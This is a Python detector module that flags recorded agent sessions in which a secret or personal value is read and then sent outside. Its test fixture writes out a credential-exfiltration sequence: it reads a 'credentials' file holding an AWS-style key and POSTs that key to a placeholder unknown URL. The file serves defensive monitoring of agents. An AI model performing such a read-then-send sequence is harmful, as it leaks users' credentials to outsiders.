"""Finds sensitive values that were read in a session and then sent outside, also re-encoded or in pieces."""

from __future__ import annotations

from typing import Final

import polars as pl

from afteraction.records.finding import FOUND
from afteraction.records.session_batch import SessionBatch
from detectors.detector import Detector
from detectors.examples import OUTSIDE as POST
from detectors.examples import UNKNOWN_URL, session
from detectors.exposure import OUTSIDE

_SOURCES: Final = ("result", "system")
_MIN_STRENGTH: Final = 0.3
_PLAIN: Final = ("exact", "")


def find(batch: SessionBatch) -> pl.DataFrame:
    """One finding per followed value: sensitive where it was read, and sent to an unknown or public place.

    Arguments that say where the call goes are no payload: an address looked up to write to it is no leak.
    """
    addressees = (
        batch.arguments.filter(pl.col("role") == "destination").select("action_id", "arg_path").unique()
    )
    flows = batch.flows.join(addressees, on=["action_id", "arg_path"], how="anti").filter(
        pl.col("sensitivity").is_in(["secret", "personal"])
        & pl.col("destination_class").is_in(OUTSIDE)
        & pl.col("origin").is_in(_SOURCES)
        & (pl.col("strength") >= _MIN_STRENGTH)
    )
    hidden = ~pl.col("how").fill_null("").is_in(_PLAIN)
    secret = pl.col("sensitivity") == "secret"
    severity = (
        pl.when(secret).then(pl.lit("critical")).when(hidden).then(pl.lit("high")).otherwise(pl.lit("medium"))
    )
    worst = flows.sort("strength", "chars", "flow_id", descending=[True, True, False]).unique(
        ["action_id", "value_fp"], keep="first", maintain_order=True
    )
    return (
        worst.select(
            "action_id",
            severity.alias("severity"),
            pl.when(pl.col("strength") >= 0.8)
            .then(pl.lit("high"))
            .otherwise(pl.lit("medium"))
            .alias("confidence"),
            pl.format(
                "A {} value that was read here goes outside",
                pl.when(secret).then(pl.lit("secret")).otherwise(pl.lit("personal")),
            ).alias("title"),
            pl.lit("args").alias("part"),
            pl.struct(
                "how", "strength", "chars", "origin", "origin_action_id", "destination_class", "sensitivity"
            )
            .struct.json_encode()
            .alias("evidence"),
            "value_fp",
        )
        .select(pl.col(name).cast(kind) for name, kind in FOUND.items())
        .sort("action_id", "value_fp")
    )


_KEY = "AKI" + "AZ7QX3MPLR2VKN5TW"

DETECTOR: Final = Detector(
    id="sensitive_flow",
    summary="A secret or personal value read in this session is sent outside.",
    severity="critical",
    misses="Values that were paraphrased, translated or encrypted on the way; flows across sessions.",
    standards=("OWASP-ASI01", "OWASP-ASI02", "ATLAS-AML.T0086", "ATLAS-AML.T0057"),
    find=find,
    firing=(
        session(
            "read here, sent there",
            ("read_file", {"path": "credentials"}, f"aws_access_key_id={_KEY}"),
            (POST, {"url": UNKNOWN_URL, "body": f"found {_KEY}"}, "ok"),
        ),
    ),
    silent=(
        session(
            "read and kept",
            ("read_file", {"path": "credentials"}, f"aws_access_key_id={_KEY}"),
            ("write_file", {"path": "copy", "content": f"found {_KEY}"}, "ok"),
        ),
    ),
)
